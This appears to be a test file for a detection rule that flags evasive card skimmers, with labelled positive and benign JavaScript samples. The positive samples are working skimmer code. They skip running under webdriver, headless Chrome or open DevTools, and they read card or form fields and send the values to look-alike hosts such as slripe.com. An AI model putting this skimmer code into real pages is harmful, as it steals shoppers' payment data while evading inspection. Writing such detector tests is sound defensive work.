// Tests for evasive-card-collector: anti-analysis checks plus card/form collection plus a send
// to an unknown or look-alike host. The finding is reported on the (first) anti-analysis
// check. Sections are separate scripts.

// ruleid: evasive-card-collector
if (!navigator.webdriver && !/HeadlessChrome/.test(navigator.userAgent)) {
  document.getElementById('cc_number').addEventListener('change', function (e) {
    new Image().src = 'https://cdn-analytics-metrics.top/p.gif?c=' + btoa(e.target.value);
  });
}

// ---
// DevTools size check, then a sweep of every field sent with fetch to a look-alike.
function devtoolsOpen() {
  // ruleid: evasive-card-collector
  return window.outerWidth - window.innerWidth > 160;
}
setTimeout(function () {
  if (devtoolsOpen()) { return; }
  var data = [];
  document.querySelectorAll('input, select').forEach(function (i) { data.push(i.value); });
  fetch('https://slripe.com/v1/collect', { method: 'POST', mode: 'no-cors', body: data.join('|') });
}, 2000);

// ---
// A payment SDK's fraud signals: it checks webdriver and reads the card fields, but talks
// only to the processor.
// ok: evasive-card-collector
var automated = !!navigator.webdriver;
var pan = document.querySelector('[autocomplete="cc-number"]').value;
fetch('https://api.stripe.com/v1/tokens', { method: 'POST',
  body: 'card[number]=' + pan + '&guid=' + (automated ? 'bot' : 'human') });

// ---
// An anti-bot vendor script: webdriver and WebGL checks, reports to its own host; it never
// touches card or form fields.
// ok: evasive-card-collector
var signals = { wd: navigator.webdriver, gl: /SwiftShader/.test(getRenderer()) };
navigator.sendBeacon('https://challenge.botshield-vendor.example.net/s', JSON.stringify(signals));

// ---
// A fraud vendor's device profile: webdriver is one of the signals it reports, beside keystroke
// timings of the card fields (never their values), to its own unknown host.
// ok: evasive-card-collector
var timing = [];
document.querySelector('[autocomplete="cc-number"]').addEventListener('keydown', function () {
  timing.push(performance.now());
});
navigator.sendBeacon('https://collect.fraud-vendor.example/p',
  JSON.stringify({ fp: { webdriver: !!navigator.webdriver, cores: navigator.hardwareConcurrency },
                   keys: timing.length }));

// ---
// The same profile object, but the script also branches on the check to hide itself.
// ruleid: evasive-card-collector
if (navigator.webdriver) { throw new Error('x'); }
var pan = document.querySelector('[autocomplete="cc-number"]');
navigator.sendBeacon('https://collect.fraud-vendor.example/p',
  JSON.stringify({ fp: { webdriver: !!navigator.webdriver }, v: pan.value }));
